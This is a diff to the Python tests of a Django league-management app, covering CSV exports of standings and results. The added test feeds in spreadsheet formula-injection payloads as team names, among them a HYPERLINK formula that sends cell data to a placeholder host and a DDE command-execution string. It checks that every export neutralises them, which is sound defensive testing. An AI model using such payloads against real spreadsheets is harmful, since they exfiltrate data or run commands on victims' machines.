@@ -507,7 +507,7 @@ def test_the_standings_export_as_csv_in_the_order_shown(played_league):
     assert f"{played_league.slug}-standings.csv" in response["Content-Disposition"]
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0] == HEAD
-    assert rows[1][:10] == ["1=", "Pair 1", "1", "1", "0", "0", "3", "500", "300", "+200"]
+    assert rows[1][:10] == ["1=", "Pair 1", "1", "1", "0", "0", "3", "500", "300", "200"]
     assert [r[1] for r in rows[1:]] == ["Pair 1", "Pair 3", "Pair 2", "Pair 4"]
     sorted_rows = list(
         csv.reader(
@@ -538,7 +538,7 @@ def test_results_csv_has_every_fixture(organiser, scorer):
     response = Client().get(url("competitions:results-csv", league))
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert len(rows) == 6
     by_home = {(r["home"], r["away"]): r for r in rows}
 
@@ -606,3 +606,53 @@ def test_query_counts_do_not_grow_with_the_league(organiser, scorer, organiser_c
         many = query_count(client, url(page, large))
         assert few == many, (page, few, many)
     assert query_count(Client(), url(page, large)) <= 7
+
+
+#: Names a stranger could give, that a spreadsheet would run as formulas if written raw.
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+)
+
+
+def csv_rows(response) -> list[list[str]]:
+    """The CSV as a spreadsheet reads it, after checking it starts with the UTF-8 BOM."""
+    assert response.content.startswith("\ufeff".encode())
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_every_csv_neutralises_formulas_keeps_accents_and_writes_numbers(organiser, scorer):
+    league = make_league(organiser, teams=5)
+    names_now = dict(
+        zip([f"Pair {i}" for i in range(1, 6)], (*HOSTILE_NAMES, "Zoë – Ann"), strict=True)
+    )
+    for old, new in names_now.items():
+        league.entrants.filter(name=old).update(name=new)
+    for fixture in fixtures_of(league)[:2]:
+        play(fixture, scorer, winner=0)
+    standings = csv_rows(Client().get(url("competitions:standings", league), {"_export": "csv"}))
+    results = csv_rows(Client().get(url("competitions:results-csv", league)))
+    for rows in (standings, results):
+        cells = [cell for row in rows for cell in row]
+        assert "Zoë – Ann" in cells
+        for cell in cells:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a number may start so; a name never does
+        for name in HOSTILE_NAMES:
+            assert "'" + name in cells
+    head = standings[0]
+    made, diff = head.index("Made %"), head.index("Diff")
+    by_name = {row[1]: row for row in standings[1:]}
+    winners = {row[1] for row in standings[1:] if row[head.index("W")] == "1"}
+    assert len(winners) == 2
+    for name, row in by_name.items():
+        if name in winners:
+            assert float(row[made]) == 100 and int(row[diff]) > 0
+        else:
+            # Never made trump: no share to give, so an empty cell, not "–".
+            assert row[made] == "" and int(row[diff]) <= 0
+    assert sorted(row[diff] for row in standings[1:])[0] == "-190"  # a number, not "'-190"
+    unplayed = [row for row in results[1:] if row[results[0].index("status")] == "Scheduled"]
+    assert unplayed and all(row[results[0].index("home_points")] == "" for row in unplayed)
